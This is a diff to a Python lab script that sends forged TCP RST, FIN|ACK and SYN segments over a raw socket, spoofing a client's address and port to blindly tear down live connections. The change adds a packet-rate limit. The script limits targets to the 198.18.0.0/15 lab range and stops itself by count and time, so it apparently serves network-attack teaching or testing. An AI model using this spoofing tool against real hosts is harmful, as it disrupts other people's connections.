@@ -1,17 +1,19 @@
 #!/usr/bin/env python3
 """Blind attacks on live TCP connections, for the namespace lab: for each client port given,
 COUNT RSTs and COUNT FIN|ACKs at random sequence numbers, then one SYN, all with the client's
-address and port forged as the source, to DST:DPORT. Bounded by COUNT and by SECONDS; it stops
-by itself and prints what it sent. Run it in the lab's spoofer namespace only.
-   spoof-segments.py CLIENT DST DPORT COUNT SECONDS PORT [PORT ...]"""
+address and port forged as the source, to DST:DPORT, at most RATE packets a second. Bounded by
+COUNT and by SECONDS; it stops by itself and prints what it sent. Run it in the lab's spoofer
+namespace only.
+   spoof-segments.py CLIENT DST DPORT COUNT RATE SECONDS PORT [PORT ...]"""
 import random
 import socket
 import struct
 import sys
 import time
 
-client, dst, dport, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
-ports = [int(p) for p in sys.argv[6:]]
+client, dst, dport, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
+rate, seconds = float(sys.argv[5]), float(sys.argv[6])
+ports = [int(p) for p in sys.argv[7:]]
 for address in (client, dst):
     if not address.startswith("198.18.") and not address.startswith("198.19."):
         sys.exit("spoof-segments: lab addresses (198.18.0.0/15) only")
@@ -41,7 +43,17 @@ s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
 src, dst_bytes = socket.inet_aton(client), socket.inet_aton(dst)
 rnd = random.Random(7)
 sent = {"rst": 0, "fin": 0, "syn": 0}
-end = time.monotonic() + seconds
+start = time.monotonic()
+end = start + seconds
+
+
+def pace():
+    """Sleeps while ahead of RATE packets a second."""
+    ahead = sum(sent.values()) / rate - (time.monotonic() - start)
+    if ahead > 0:
+        time.sleep(ahead)
+
+
 for port in ports:
     for _ in range(count):
         if time.monotonic() >= end:
@@ -50,6 +62,7 @@ for port in ports:
         s.sendto(segment(src, dst_bytes, port, rnd.getrandbits(32), rnd.getrandbits(32), FIN | ACK), (dst, 0))
         sent["rst"] += 1
         sent["fin"] += 1
+        pace()
     s.sendto(segment(src, dst_bytes, port, rnd.getrandbits(32), 0, SYN), (dst, 0))
     sent["syn"] += 1
 print(f"spoofed rst {sent['rst']} fin {sent['fin']} syn {sent['syn']} on {len(ports)} connections")
